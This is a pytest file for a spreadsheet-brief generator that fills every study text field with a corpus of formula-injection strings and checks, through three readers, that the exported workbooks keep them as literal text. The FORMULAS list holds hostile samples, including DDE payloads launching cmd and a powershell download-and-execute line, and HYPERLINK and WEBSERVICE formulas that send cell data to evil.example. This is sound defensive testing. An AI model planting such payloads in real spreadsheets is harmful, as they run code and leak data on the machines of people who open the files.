"""Formula and content injection (issue 8): hostile text in every text field, in every template.

A generated corpus of hostile strings (formulas, DDE, `@`/`+`/`-` prefixes, error codes, tab/CR/LF
tricks, XML specials, OOXML `_xHHHH_` escapes, bidi marks, text at Excel's cell limit) is placed in
every text field of a study: study i puts payload (i + f) mod N into field f, so that over the studies
every payload visits every kind of field. Each study is briefed with every template and the workbook is read
three ways: its raw XML (no `<f>` formula the tool did not put there on purpose, no error cells, no
external or DDE link, no study text in any rule formula), openpyxl (no formula or error cell; risky
text carries the quote prefix), and python-calamine (an independent reader): every payload is there,
literally. test_brief.py checks a few payloads in a few fields; this file is the whole matrix.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from python_calamine import CalamineWorkbook

from hardening import LONG, TEMPLATES, report
from scenmatrix.brief.build import build_brief
from scenmatrix.brief.xlsx.cells import MAX_CELL_CHARS, ooxml_unescape
from scenmatrix.study.formulas import is_risky
from scenmatrix.cli.app import cli
from scenmatrix.store.document import round_trip_yaml
from scenmatrix.store.loader import load

GENERATED = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.timezone.utc)

# Formulas the tool writes on purpose, by (template, sheet title): none today. A deliberate formula
# added later is listed here with how many the sheet holds, so that any other one still fails.
DELIBERATE_FORMULAS: dict[tuple[str, str], int] = {}

# --- the corpus ---------------------------------------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget bit.ly/x)'!A0", "=1+1", "=SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")', "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "@SUM(1)", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "+1+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0",
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', "=2+5+cmd|' /C calc'!A0",
]
ERRORS = ["#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NULL!", "#NUM!", "#SPILL!", "#CALC!", "#n/a", " #N/A "]
PREFIXED = [prefix + "=1+1" for prefix in ("\t", "\r", "\n", "\r\n", " ", "\u200b", "\u202e", "\ufeff", "\u00a0")]
MARKUP = ['<b>&amp;</b> "quoted" \'single\'', "]]>", "<![CDATA[x]]>", "&lt;&#x3D;&#61;", "<?xml version='1.0'?>",
          "<f>1+1</f>", '</t></is><f>1+1</f><is><t>', "_x003D_1+1", "_x003D_cmd|' /C calc'!A0", "a_x000D_b_x005F_c",
          "&P &N &[Page] &&", "\\N\\t\\u0041"]
ODD = ["\u202eRTL override\u202c text", "\u200fright-to-left mark", "emoji 🚁🇺🇦👩‍👩‍👧", "a\u2028line\u2029sep",
       "tab\there\r\nand CRLF", "trailing space ", "  ", "ＮＦＫＣ＝１", "e\u0301\u0301\u0301 combining"]
# Near Excel's cell limit (in UTF-16 units), with room for the few cells that join a field with others
# ("S1 title (+2)"); over the limit is refused, see test_brief and test_hardening_fuzz.
NEAR_LIMIT = MAX_CELL_CHARS - 700
LONG_TEXT = ["=" + "1+" * (NEAR_LIMIT // 2 - 1) + "1", "x" * NEAR_LIMIT, "🚁" * (NEAR_LIMIT // 2), "=" + "A" * 200]


def corpus() -> list[str]:
    payloads = FORMULAS + ERRORS + PREFIXED + MARKUP + ODD
    if LONG:  # every formula behind every prefix, and every error code in odd spacing and case
        payloads += [p + f for p in ("\t", "\r", "\n", " ", "\u200b") for f in FORMULAS]
        payloads += [e.lower() for e in ERRORS] + [f"\t{e}" for e in ERRORS]
    payloads = list(dict.fromkeys(payloads))
    step = len(payloads) // len(LONG_TEXT)  # spread out: no study holds two long texts in fields joined in one cell
    for n, text in enumerate(LONG_TEXT):
        payloads.insert(n * (step + 1), text)
    return payloads


PAYLOADS = corpus()

# --- where text lives in a study, and where each template shows it -----------------------------------------

# The text fields of one block of entries (actors, sources, evidence, factors, scenarios); a study holds
# COPIES blocks (ids suffixed 0, 1, ...), so that it carries COPIES payloads in every kind of field, and
# a third as many studies cover the corpus. The study's title has one slot a study: in CI it sees every
# third payload, under SCENMATRIX_LONG=1 (one block a study) every one.
COPIES = 1 if LONG else 3
BLOCK_FIELDS: list[tuple[Any, ...]] = [
    ("study", "sources", "src{k}", "title"), ("study", "sources", "src{k}", "author"),
    ("study", "sources", "src{k}", "publisher"), ("study", "sources", "src{k}", "url"),
    ("study", "sources", "local{k}", "title"), ("study", "sources", "local{k}", "path"),
    ("study", "key_judgments", "KJ1_{k}"), ("study", "key_judgments", "KJ2_{k}"),
    ("actors", "A{k}", "name"), ("actors", "B{k}", "name"), ("actors", "C{k}", "name"), ("actors", "A{k}", "aliases", 0),
    ("evidence", "E1_{k}", "claim"), ("evidence", "E1_{k}", "source"), ("evidence", "E1_{k}", "quote"),
    ("evidence", "E1_{k}", "contested_by", "B{k}"), ("evidence", "E2_{k}", "claim"),
    ("drivers", "d1_{k}", "title"), ("drivers", "d1_{k}", "description"),
    ("constraints", "c1_{k}", "title"), ("constraints", "c1_{k}", "description"),
    ("scenarios", "S1_{k}", "title"), ("scenarios", "S1_{k}", "narrative"), ("scenarios", "S1_{k}", "horizon"),
    ("scenarios", "S1_{k}", "indicators", "I1_{k}", "text"), ("scenarios", "S1_{k}", "impacts", "A{k}", "rationale"),
    ("scenarios", "S2_{k}", "title"), ("scenarios", "S2_{k}", "narrative"),
    ("scenarios", "S2_{k}", "impacts", "A{k}", "rationale"),
]
STUDY_TITLE = ("study", "title")
KINDS = [STUDY_TITLE] + BLOCK_FIELDS  # every kind of text field
FIELDS: list[tuple[tuple[Any, ...], tuple[Any, ...]]] = [(STUDY_TITLE, STUDY_TITLE)] + [
    (kind, tuple(part.format(k=k) if isinstance(part, str) else part for part in kind))
    for k in range(COPIES) for kind in BLOCK_FIELDS]  # (kind, path in the study)
STUDIES = -(-len(PAYLOADS) // COPIES)  # enough that every payload visits every kind of field


def kinds(*wanted: tuple[Any, ...]) -> set[tuple[Any, ...]]:
    assert set(wanted) <= set(KINDS)
    return set(wanted)


SOURCES = kinds(*[f for f in BLOCK_FIELDS if f[1] == "sources"])
CONTESTED = kinds(("evidence", "E1_{k}", "contested_by", "B{k}"))
# The kinds of field each template shows, and which of those it shows inside a longer cell (a source
# line, "B0: note", the subtitle) rather than as a cell of its own.
SHOWN = {
    "standard": set(KINDS) - kinds(("actors", "A{k}", "aliases", 0)),
    "annex": set(KINDS),
    "executive": kinds(STUDY_TITLE, ("study", "key_judgments", "KJ1_{k}"), ("study", "key_judgments", "KJ2_{k}"),
                       ("actors", "A{k}", "name"), ("actors", "B{k}", "name"), ("actors", "C{k}", "name"),
                       ("scenarios", "S1_{k}", "title"), ("scenarios", "S2_{k}", "title")),
}
WITHIN = {"standard": SOURCES | CONTESTED, "annex": {STUDY_TITLE} | CONTESTED, "executive": {STUDY_TITLE}}


def skeleton() -> dict:
    data: dict = {"study": {"id": "hostile", "title": "t", "as_of": dt.date(2024, 5, 1), "marking": "TLP:AMBER",
                            "sources": {}, "key_judgments": {}},
                  "actors": {}, "evidence": {}, "drivers": {}, "constraints": {}, "scenarios": {}}
    for k in range(COPIES):
        data["study"]["sources"].update({f"src{k}": {"title": "t", "author": "a", "publisher": "p", "url": "u"},
                                         f"local{k}": {"title": "t", "path": "p"}})
        data["study"]["key_judgments"].update({f"KJ1_{k}": "k", f"KJ2_{k}": "k"})
        data["actors"].update({f"A{k}": {"name": "a", "kind": "state", "aliases": ["x"]},
                               f"B{k}": {"name": "b", "kind": "bloc"}, f"C{k}": {"name": "c", "kind": "other"}})
        data["evidence"].update({
            f"E1_{k}": {"claim": "c", "source": "s", "cited_in": f"src{k}", "grade": "B2", "quote": "q",
                        "contested_by": {f"B{k}": "n"}},
            f"E2_{k}": {"claim": "c", "source": "s", "cited_in": f"local{k}", "grade": "D4"}})
        data["drivers"][f"d1_{k}"] = {"title": "t", "description": "d", "evidence": [f"E1_{k}"]}
        data["constraints"][f"c1_{k}"] = {"title": "t", "description": "d", "evidence": [f"E2_{k}"]}
        data["scenarios"].update({
            f"S1_{k}": {"title": "t", "narrative": "n", "likelihood": "likely", "confidence": "moderate",
                        "horizon": "h", "drivers": [f"d1_{k}"], "constraints": [f"c1_{k}"],
                        "indicators": {f"I1_{k}": {"text": "t", "status": "observed"}},
                        "impacts": {f"A{k}": {"effect": 2, "domains": ["military"], "confidence": "high",
                                              "rationale": "r", "evidence": [f"E1_{k}"]},
                                    f"B{k}": {"effect": -3, "domains": ["economic"], "confidence": "low",
                                              "rationale": "r2", "evidence": [f"E2_{k}", f"E1_{k}"]}}},
            f"S2_{k}": {"title": "t2", "narrative": "n", "likelihood": "unlikely", "confidence": "low",
                        "impacts": {f"A{k}": {"effect": -1, "domains": ["political"], "confidence": "moderate",
                                              "rationale": "r"}}}})
    return data


def put(data: dict, path: tuple[Any, ...], value: str) -> None:
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = value


def get(data: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        data = data[part] if isinstance(data, (dict, list)) else getattr(data, part)
    return data


def assignment(index: int) -> dict[int, str]:
    """Study `index` of the Latin square: copy k of field kind f holds payload (index * COPIES + k + f) mod N."""
    out = {}
    for f, (kind, _) in enumerate(FIELDS):
        k = 0 if kind == STUDY_TITLE else (f - 1) // len(BLOCK_FIELDS)
        out[f] = PAYLOADS[(index * COPIES + k + KINDS.index(kind)) % len(PAYLOADS)]
    return out


def hostile_study(folder: Path, index: int) -> tuple[Path, dict[int, str]]:
    data = skeleton()
    assigned = assignment(index)
    for f, payload in assigned.items():
        put(data, FIELDS[f][1], payload)
    out = io.StringIO()
    round_trip_yaml().dump(data, out)
    path = folder / f"hostile-{index}.yaml"
    path.write_text(out.getvalue(), encoding="utf-8")
    return path, assigned


def visits(shown: set) -> set[tuple[tuple[Any, ...], str]]:
    return {(kind, assignment(i)[f]) for i in range(STUDIES) for f, (kind, _) in enumerate(FIELDS) if kind in shown}


def test_every_payload_visits_every_kind_of_field() -> None:
    seen = visits(set(KINDS))
    assert len(seen) == len(BLOCK_FIELDS) * len(PAYLOADS) + len({p for kind, p in seen if kind == STUDY_TITLE})
    assert len({p for kind, p in seen if kind == STUDY_TITLE}) == (len(PAYLOADS) if LONG else STUDIES)


# --- reading a workbook three ways ----------------------------------------------------------------------------

RULE_FORMULA = re.compile(r'^(?:"[^"]*"|-?\d+)$')  # a quoted vocabulary list, or a bound such as -3 or 32767


def check_xml(path: Path, template: str, sheet_titles: dict[str, str], payloads: set[str]) -> None:
    distinctive = {p for p in payloads if len(p.strip()) >= 6}
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        assert not [n for n in names if "externalLink" in n or n.endswith((".bin", ".vba"))], names
        for name in names:
            if not name.endswith((".xml", ".rels")):
                continue
            xml = z.read(name).decode("utf-8")
            assert not re.search(r"<(\w+:)?(ddeLink|oleLink|externalBook)\b", xml), name
            assert 'TargetMode="External"' not in xml, f"{name}: a link out of the workbook"
            if not name.startswith("xl/worksheets/sheet"):
                if name == "xl/workbook.xml":
                    assert not [p for p in distinctive if p in xml or escape_xml(p) in xml], "study text in names"
                continue
            title = sheet_titles[name]
            formulas = re.findall(r"<(?:\w+:)?f[ >/]", xml)
            assert len(formulas) == DELIBERATE_FORMULAS.get((template, title), 0), f"{template} {title}: formulas"
            assert not re.search(r'<c [^>]*\bt="e"', xml), f"{template} {title}: an error cell"
            for rule in re.findall(r"<(?:\w+:)?formula[12]?>([^<]*)</", xml):
                assert RULE_FORMULA.match(unescape_xml(rule)), f"{template} {title}: rule formula {rule!r}"


def escape_xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def unescape_xml(text: str) -> str:
    return text.replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


def sheet_parts(path: Path) -> dict[str, str]:
    """xl/worksheets/sheetN.xml -> the sheet's title."""
    with zipfile.ZipFile(path) as z:
        workbook = z.read("xl/workbook.xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
    targets = dict(re.findall(r'<Relationship[^>]*Id="([^"]+)"[^>]*Target="([^"]+)"', rels))
    targets.update({rid: t for t, rid in re.findall(r'<Relationship[^>]*Target="([^"]+)"[^>]*Id="([^"]+)"', rels)})
    out = {}
    for name, rid in re.findall(r'<sheet [^>]*name="([^"]+)"[^>]*r:id="([^"]+)"', workbook):
        out["xl/" + targets[rid].lstrip("/").removeprefix("xl/")] = unescape_xml(name)
    return out


def openpyxl_texts(path: Path) -> dict[str, list[str]]:
    """Visible sheet -> every text cell as Excel shows it; and checks each cell's type on the way."""
    wb = openpyxl.load_workbook(path)
    texts: dict[str, list[str]] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), f"{ws.title}!{cell.coordinate}: {cell.data_type}"
                if isinstance(cell.value, str):
                    text = ooxml_unescape(cell.value)
                    if ws.sheet_state == "visible":
                        texts.setdefault(ws.title, []).append(text)
                        if is_risky(text):
                            assert cell.quotePrefix, f"{ws.title}!{cell.coordinate}: {text[:40]!r} without quote prefix"
    return texts


def calamine_texts(path: Path, visible: set[str]) -> dict[str, list[str]]:
    wb = CalamineWorkbook.from_path(str(path))
    return {name: [v for row in wb.get_sheet_by_name(name).to_python() for v in row if isinstance(v, str)]
            for name in wb.sheet_names if name in visible}


def assert_shown(texts: dict[str, list[str]], payload: str, exact: bool, reader: str, where: str) -> None:
    cells = [t for sheet in texts.values() for t in sheet]
    if exact:
        assert payload in cells, f"{reader}: {payload[:60]!r} ({where}) is not a cell's whole text"
    else:
        assert any(payload in t for t in cells), f"{reader}: {payload[:60]!r} ({where}) is not in any cell"


# --- the tests ---------------------------------------------------------------------------------------------------


def test_the_templates_checked_are_every_template() -> None:
    result = CliRunner().invoke(cli, ["templates"])
    assert tuple(line.split()[0] for line in result.stdout.splitlines()) == TEMPLATES


def test_every_payload_reads_back_from_the_study_unchanged(tmp_path: Path) -> None:
    for index in range(STUDIES):
        path, assigned = hostile_study(tmp_path, index)
        study = load(path).study
        for f, payload in assigned.items():
            assert get(study, FIELDS[f][1]) == payload, (FIELDS[f][1], payload)


@pytest.mark.parametrize("template", TEMPLATES)
def test_hostile_text_in_every_field_is_only_ever_literal_text(tmp_path: Path, template: str) -> None:
    checked = set()
    for index in range(STUDIES):
        path, assigned = hostile_study(tmp_path, index)
        out = build_brief(load(path), template, tmp_path / f"{template}-{index}.xlsx", generated=GENERATED)
        check_xml(out, template, sheet_parts(out), set(assigned.values()))
        by_openpyxl = openpyxl_texts(out)
        by_calamine = calamine_texts(out, set(by_openpyxl))
        for f, (kind, where) in enumerate(FIELDS):
            if kind in SHOWN[template]:
                exact = kind not in WITHIN[template]
                label = f"{'.'.join(map(str, where))} in {template}"
                assert_shown(by_openpyxl, assigned[f], exact, "openpyxl", label)
                assert_shown(by_calamine, assigned[f], exact, "calamine", label)
                checked.add((kind, assigned[f]))
        out.unlink()
    assert checked == visits(SHOWN[template])
    report(f"injection {template}", studies=STUDIES, payloads=len(PAYLOADS), field_kinds=len(SHOWN[template]),
           pairs_checked=len(checked))


def test_a_brief_of_hostile_text_imports_back_with_no_change(tmp_path: Path) -> None:
    from scenmatrix.review.importer import plan_import

    for index in range(STUDIES):
        path, _ = hostile_study(tmp_path, index)
        out = build_brief(load(path), "standard", tmp_path / "b.xlsx", generated=GENERATED)
        plan = plan_import(out, path)
        assert (plan.changes, plan.added, plan.conflicts) == ([], [], []), (index, plan.changes[:2])


def test_hostile_text_typed_by_a_reviewer_lands_in_the_study_exactly(tmp_path: Path) -> None:
    """Rationales and contested-by notes changed in the brief (here with openpyxl, which writes text as
    given) go back into the study as the same text: formulas stay text, multi-line notes stay whole."""
    from scenmatrix.review.importer import apply_import, plan_import

    typed = [p for p in FORMULAS + ERRORS + ODD + ["line one\nNote: not an actor", "x\n\ny", "#REF!"]
             if "\r" not in p and "_x" not in p and p.strip()]  # a cell's CR reads back as LF, by design
    path, _ = hostile_study(tmp_path, 0)
    blocks = range(COPIES)
    for n in range(0, len(typed), 2 * COPIES):  # in each block, a rationale and a note
        given = {k: (typed[(n + 2 * k) % len(typed)], typed[(n + 2 * k + 1) % len(typed)]) for k in blocks}
        out = build_brief(load(path), "standard", tmp_path / "b.xlsx", generated=GENERATED)
        wb = openpyxl.load_workbook(out)
        for k, (rationale, note) in given.items():
            for sheet, header, match, text in (("Impacts", "Rationale", (f"S1_{k}", f"A{k}"), rationale),
                                               ("Evidence", "Contested by", (f"E1_{k}",), f"B{k}: {note}")):
                ws = wb[sheet]
                headers = [c.value for c in ws[3]]
                row = next(r for r in range(4, ws.max_row + 1)
                           if tuple(ws.cell(r, c).value for c in (1, 3)[:len(match)]) == match)
                cell = ws.cell(row, headers.index(header) + 1)
                cell.value, cell.data_type = text, "s"
        wb.save(out)
        apply_import(plan_import(out, path))
        study = load(path).study
        for k, (rationale, note) in given.items():
            assert study.scenarios[f"S1_{k}"].impacts[f"A{k}"].rationale == rationale
            assert study.evidence[f"E1_{k}"].contested_by == {f"B{k}": note}
